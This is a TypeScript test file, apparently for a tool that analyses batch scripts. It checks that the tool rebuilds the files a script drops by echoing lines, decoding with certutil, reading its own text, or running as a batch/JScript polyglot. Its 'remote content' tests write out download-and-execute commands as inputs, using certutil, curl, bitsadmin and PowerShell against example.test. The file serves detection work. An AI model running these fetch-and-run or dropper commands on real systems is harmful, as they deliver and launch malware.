import { Budget } from '../core/budget.js';
import { evaluateBatch } from './batch.evaluator.js';

const file = (...lines: string[]): string => ['@echo off', ...lines, ''].join('\r\n');
const evaluate = (...lines: string[]) => evaluateBatch(file(...lines), new Budget());
const payloads = (...lines: string[]) => evaluate(...lines).derived.filter((one) => one.kind === 'payload');
const brief = (...lines: string[]) => payloads(...lines).map((one) => [one.language, one.text]);
const base64 = (text: string | Uint8Array): string => Buffer.from(text).toString('base64');

describe('files a script writes', () => {
  it('joins echoed lines with every escape resolved', () => {
    expect(brief('set v=World', 'echo Set s = CreateObject("X"^)>"%TEMP%\\a.vbs"', '>>"%TEMP%\\a.vbs" echo s.Run "Hello %v%" ^& 1', 'wscript "%TEMP%\\a.vbs"')).toEqual([['vbscript', 'Set s = CreateObject("X")\r\ns.Run "Hello World" & 1\r\n']]);
  });

  it('maps each line to the echo it came from', () => {
    const text = file('echo one>a.ps1', 'echo two>>a.ps1');
    const [payload] = evaluateBatch(text, new Budget()).derived.filter((one) => one.kind === 'payload');
    expect(payload?.segments.map((segment) => text.slice(segment.parentStart, segment.parentEnd))).toEqual(['echo one>a.ps1', 'echo two>>a.ps1']);
  });

  it.each([
    ['a block', ['(', 'echo a', 'echo b', ')>x.js'], 'javascript', 'a\r\nb\r\n'],
    ['a one-line block', ['(echo a&echo b)>x.py'], 'python', 'a\r\nb\r\n'],
    ['set /p without line ends', ['<nul set /p ="ab">x.ps1', 'echo|set /p=c>>x.ps1'], 'powershell', 'abc'],
    ['a copy', ['echo a>1.txt', 'echo b>2.txt', 'copy /b 1.txt+2.txt x.vbs>nul'], 'vbscript', 'a\r\nb\r\n'],
    ['a new name', ['echo a>1.txt', 'ren 1.txt x.bat'], 'batch', 'a\r\n'],
    ['type', ['echo a>1.txt', 'type 1.txt>x.ps1'], 'powershell', 'a\r\n'],
    ['a loop', ['setlocal enabledelayedexpansion', 'for %%c in (1 2) do echo v%%c!OS!>>x.ps1'], 'powershell', 'v1Windows_NT\r\nv2Windows_NT\r\n'],
    ['a filter', ['(echo keep 1&echo drop&echo keep 2)>1.txt', 'findstr /b keep 1.txt>x.ps1'], 'powershell', 'keep 1\r\nkeep 2\r\n'],
    ['a folder change', ['cd /d C:\\Users\\Public', 'echo a>x.ps1', 'del C:\\Users\\Public\\x.ps1'], 'powershell', 'a\r\n'],
    ['a file it deletes', ['echo a>x.js', 'cscript x.js', 'del x.js'], 'javascript', 'a\r\n'],
  ])('follows %s', (_, lines, language, text) => expect(brief(...lines)).toEqual([[language, text]]));

  it('runs batch files that it wrote', () => {
    const { derived } = evaluate('echo @echo off>r.bat', 'echo tool %%1 %%OS%%>>r.bat', 'call r.bat ARG', 'after');
    expect(derived[0]?.text.split('\n')).toEqual(['echo @echo off>r.bat', 'echo tool %1 %OS%>>r.bat', 'r.bat ARG', 'tool ARG Windows_NT', 'after']);
    expect(derived[1]).toMatchObject({ language: 'batch', text: '@echo off\r\ntool %1 %OS%\r\n'.replace('tool', 'tool') });
  });

  it('shows unknown values in them as written', () => expect(brief('set /p n=', 'echo hello %n% %USERNAME%>x.ps1')).toEqual([['powershell', 'hello %n% %USERNAME%\r\n']]));
});

describe('certutil', () => {
  const script = "Write-Host 'decoded by hand'";

  it('decodes base64', () => {
    expect(payloads('echo -----BEGIN CERTIFICATE----->a.b64', `echo ${base64(script).slice(0, 20)}>>a.b64`, `echo ${base64(script).slice(20)}>>a.b64`, 'echo -----END CERTIFICATE----->>a.b64', 'certutil -f -decode a.b64 o.ps1 >nul', 'powershell -f o.ps1')).toMatchObject([
      { language: 'powershell', text: script, rules: ['batch: written by echo', 'certutil -decode'] },
    ]);
  });

  it('decodes hex', () => {
    expect(brief(`echo ${Buffer.from(script).toString('hex')}>a.hex`, 'certutil -decodehex a.hex o.txt 12')).toEqual([[undefined, script]]);
    expect(brief(`>a.hex echo 0000  ${Buffer.from('echo 1').toString('hex').replace(/../g, '$& ')} echo.1`, 'certutil -decodehex a.hex o.bat')).toEqual([['batch', 'echo 1']]);
  });

  it('decodes what the script carries itself', () => {
    const [payload] = payloads('certutil -decode "%~f0" "%TEMP%\\o.vbs"', 'start "" "%TEMP%\\o.vbs"', 'exit /b', '-----BEGIN CERTIFICATE-----', base64('MsgBox "own"'), '-----END CERTIFICATE-----');
    expect(payload).toMatchObject({ language: 'vbscript', text: 'MsgBox "own"' });
  });

  it('gives bytes for what is no text', () => {
    const bytes = Uint8Array.from({ length: 300 }, (_, i) => (i * 7) & 255);
    const [payload] = payloads(`echo ${base64(bytes)}>a`, 'certutil -decode a b.exe', 'b.exe');
    expect(payload).toMatchObject({ kind: 'payload', text: '' });
    expect(payload?.bytes).toEqual(bytes);
  });

  it('says what it cannot decode', () => {
    expect(evaluate('echo !!!>a', 'certutil -decode a b').notDecoded).toMatchObject([{ reason: 'malformed' }]);
    expect(evaluate('certutil -decode elsewhere.txt b.exe').notDecoded).toMatchObject([{ reason: 'unknownValue' }]);
  });
});

describe('the script as data', () => {
  it.each([
    ['more', ['more +4 "%~f0" >x.ps1', 'powershell -f x.ps1', 'exit /b', 'Write-Host 1'], 'Write-Host 1\r\n'],
    ['findstr', ['findstr /b "#ps" "%~f0">x.ps1', 'exit /b', '#ps a', '#ps b'], '#ps a\r\n#ps b\r\n'],
    ['for /f', ['for /f "usebackq skip=3 delims=" %%l in ("%~f0") do echo %%l>>x.ps1', 'goto :eof', 'Write-Host 1'], 'Write-Host 1\r\n'],
  ])('is read by %s', (_, lines, text) => expect(brief(...lines)).toEqual([['powershell', text]]));

  it('may be in two languages', () => {
    const text = '@if (@A)==(@B) @end /*\r\n@cscript //nologo //e:jscript "%~f0" & exit /b\r\n*/ WScript.Echo(1)\r\n';
    expect(evaluateBatch(text, new Budget()).derived.find((one) => one.kind === 'payload')).toMatchObject({ language: 'javascript', text });
  });

  it('copied elsewhere is no payload', () => expect(payloads('copy "%~f0" "%APPDATA%\\u.bat"', 'call "%APPDATA%\\u.bat"')).toEqual([]));
});

describe('remote content', () => {
  it.each([
    ['certutil -urlcache -split -f http://example.test/a.exe %TEMP%\\a.exe', 'start "" %TEMP%\\a.exe'],
    ['curl -s -o a.exe https://example.test/a.exe', 'a.exe /q'],
    ['curl -sO https://example.test/a.exe', 'a'],
    ['bitsadmin /transfer j http://example.test/a.ps1 C:\\a.ps1', 'powershell -f C:\\a.ps1'],
    ['powershell -c "(New-Object Net.WebClient).DownloadFile(\'http://example.test/a.exe\',\'%TEMP%\\a.exe\')"', '"%TEMP%\\a.exe"'],
    ['powershell iwr http://example.test/a.js -OutFile $env:TEMP\\a.js', 'wscript %TEMP%\\a.js'],
  ])('is told when it is run: %s', (get, run) => {
    const text = file(get, run);
    const [missing] = evaluateBatch(text, new Budget()).notDecoded;
    expect(missing?.reason).toBe('remoteContent');
    expect(text.slice(missing?.start, missing?.end)).toBe(run);
  });
});
